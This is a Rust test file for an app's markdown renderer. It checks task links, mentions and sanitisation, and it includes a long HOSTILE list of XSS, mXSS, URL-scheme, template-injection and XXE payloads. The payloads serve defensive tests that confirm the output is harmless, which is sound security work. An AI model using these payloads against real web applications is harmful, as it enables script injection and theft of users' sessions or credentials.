//! What people type comes out as meant; what attackers type comes out as text.

use super::*;
use uuid::Uuid;

fn around() -> Around {
    Around {
        workspace: "north".into(),
        keys: HashSet::from(["NGT".to_owned(), "A2".to_owned()]),
        people: vec![
            Named {
                id: Uuid::from_u128(1),
                name: "Ana <Ribeiro>".into(),
            },
            Named {
                id: Uuid::from_u128(2),
                name: "Mo Adeyémi".into(),
            },
        ],
    }
}

fn html(text: &str) -> String {
    markdown(text, &around()).as_str().trim().to_owned()
}

#[test]
fn markdown_is_rendered() {
    assert_eq!(html(" \n "), "");
    assert_eq!(
        html("One *two*\nthree"),
        "<p>One <em>two</em><br>\nthree</p>"
    );
    let table = html("| a | b |\n|--|--:|\n| 1 | ~~2~~ |");
    assert!(
        table.contains("<td align=\"right\"><del>2</del></td>"),
        "{table}"
    );
    let boxes = html("- [x] done\n- [ ] open");
    assert_eq!(boxes.matches("disabled=\"\"").count(), 2, "{boxes}");
    assert_eq!(boxes.matches("type=\"checkbox\"").count(), 2, "{boxes}");
}

#[test]
fn names_of_tasks_are_links() {
    let link = |key: &str| {
        format!("<a href=\"/north/t/{key}\" rel=\"noopener noreferrer nofollow\">{key}</a>")
    };
    assert_eq!(
        html("See NGT-42, A2-1."),
        format!("<p>See {}, {}.</p>", link("NGT-42"), link("A2-1"))
    );
    // No project of the reader's; no word of its own; in code; in a link already.
    for text in [
        "UTF-8", "XNGT-42", "NGT-42a", "NGT-42-1", "ngt-42", "`NGT-42`",
    ] {
        assert!(!html(text).contains("<a"), "{text}");
    }
    assert_eq!(html("[NGT-42](https://x.test)").matches("<a").count(), 1);
}

#[test]
fn members_who_are_mentioned_stand_out() {
    assert_eq!(
        html("Ask @mo adeyémi."),
        "<p>Ask <b class=\"at\">@mo adeyémi</b>.</p>"
    );
    assert_eq!(html("Ask @Otto"), "<p>Ask @Otto</p>");
    assert_eq!(html("`@Mo`"), "<p><code>@Mo</code></p>");
    let hostile = html("@Ana &lt;Ribeiro>");
    assert_eq!(hostile, "<p><b class=\"at\">@Ana &lt;Ribeiro&gt;</b></p>");
}

#[test]
fn pictures_are_links() {
    let picture = html("![A plan](https://spy.test/x.png)");
    assert!(!picture.contains("<img"), "{picture}");
    assert!(
        picture.contains("href=\"https://spy.test/x.png\""),
        "{picture}"
    );
}

/// Whatever is typed, nothing that runs, loads or reaches out comes out.
#[test]
fn hostile_texts_come_out_harmless() {
    for text in HOSTILE {
        for text in [
            (*text).to_owned(),
            format!("> {text}"),
            format!("- {text}"),
            format!("| a |\n|--|\n| {text} |"),
            format!("[{text}](https://x.test)"),
            format!("[x]({text})"),
            format!("![{text}]({text} \"{text}\")"),
            format!("<{text}>"),
            format!("NGT-1{text}@Mo{text}"),
            format!("``` {text}\n{text}\n```"),
            format!("[a]: {text}\n[a]"),
        ] {
            assert_harmless(&text);
        }
    }
}

/// Reads the HTML as a browser would and judges each tag and attribute.
fn assert_harmless(text: &str) {
    let html = html(text);
    for (n, _) in html.match_indices('<') {
        let rest = &html[n + 1..];
        let rest = rest.strip_prefix('/').unwrap_or(rest);
        let tag = &rest[..rest.find('>').unwrap_or(rest.len())];
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(
            CLEANER.clone_tags().contains(name.trim_end_matches('/')),
            "<{name}> of {text:?}: {html}"
        );
        for attribute in attributes.split("\" ").filter(|a| !a.is_empty()) {
            let (name, value) = attribute.split_once("=\"").unwrap_or((attribute, ""));
            let allowed = [
                "href", "title", "start", "align", "checked", "disabled", "type", "class", "rel",
            ];
            assert!(allowed.contains(&name), "{name}= of {text:?}: {html}");
            if name == "href" {
                let scheme = value.split(['/', '?', '#']).next().unwrap_or_default();
                let plain = ["http:", "https:", "mailto:", "tel:"]
                    .iter()
                    .any(|s| scheme.to_lowercase().starts_with(s));
                // Only what a browser reads as a scheme is one.
                let word = scheme.split(':').next().unwrap_or_default();
                let is_scheme = scheme.contains(':')
                    && word
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b));
                assert!(plain || !is_scheme, "{value} of {text:?}");
            }
        }
    }
}

#[test]
fn deep_and_long_texts_take_a_moment_at_most() {
    let begun = std::time::Instant::now();
    for text in [
        ">".repeat(60_000),
        "- ".repeat(30_000),
        "*a _".repeat(15_000),
        "[".repeat(60_000),
        "![".repeat(30_000),
        "**a ".repeat(15_000),
        "`".repeat(60_000),
        "<".repeat(60_000),
        "| a ".repeat(15_000) + "\n" + &"|--".repeat(15_000),
        "@Mo ".repeat(15_000),
        "NGT-1 ".repeat(10_000),
        "a@b.c ".repeat(10_000),
        "1. ".repeat(20_000),
        "&#x41;".repeat(10_000),
    ] {
        let one = std::time::Instant::now();
        let _ = markdown(&text, &around());
        assert!(
            one.elapsed().as_secs() < 4,
            "{} took {:?}",
            &text[..12],
            one.elapsed()
        );
    }
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.test></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//x.test/x.swf>",
    "<link rel=stylesheet href=//x.test>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//x.test/>",
    "<style>@import '//x.test';</style>",
    "<style>*{background:url(//x.test)}</style>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a target=_blank onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//x.test>",
    "<input type=submit formaction=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<form action=//x.test><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x.test/1",
    "view-source:javascript:alert(1)",
    "//x.test/\"onmouseover=\"alert(1)",
    "https://x.test/\"onmouseover=alert(1)//",
    "https://x.test/'onmouseover='alert(1)",
    "https://x.test/><script>alert(1)</script>",
    "mailto:a@b.c\"onclick=alert(1)",
    "x \"onmouseover=\"alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "</b><script>alert(1)</script>",
    "</div></main></body><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\<script\\>alert(1)\\</script\\>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= system('id') %>",
    "<a href=\"https://x.test\" rel=opener target=_top>x</a>",
    "<b class=\"at btn-primary\">x</b>",
    "<b class=at onclick=alert(1)>x</b>",
    "<code class=\"x\" onmouseover=alert(1)>x</code>",
    "<p id=main>clobbered</p>",
    "<a name=cookie>x</a>",
    "<form id=test><input name=attributes>",
    "<x onclick=alert(1)>x</x>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<table background=javascript:alert(1)>",
    "<td background=\"javascript:alert(1)\">",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=//x.test>",
    "<slot onslotchange=alert(1)>",
    "<animate onbegin=alert(1) attributeName=x>",
    "<use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">",
    "<foreignObject><iframe src=javascript:alert(1)></foreignObject>",
    "<annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml>",
    "<img/src/onerror=alert(1)>",
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img srcset=\"x.test 1x\">",
    "<picture><source srcset=//x.test></picture>",
    "<link rel=preload href=//x.test as=script>",
    "<script type=module>import('//x.test')</script>",
    "<script>/*</script><svg onload=alert(1)>*/",
    "\u{202e}<script>\u{202c}",
    "<\u{0}script>alert(1)</script>",
    "<sc\u{0}ript>alert(1)</script>",
    "\u{fffe}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<a href=\"ＪＡＶＡＳＣＲＩＰＴ:alert(1)\">x</a>",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert(1 \"y\")",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<https://x.test/\" onmouseover=\"alert(1)>",
    "<javascript:alert(1)>",
    "www.x.test\" onclick=alert(1)",
    "ftp://x.test/<script>alert(1)</script>",
    "[x]: javascript:alert(1)",
    "<b class=\"at\">@Olga</b>",
];
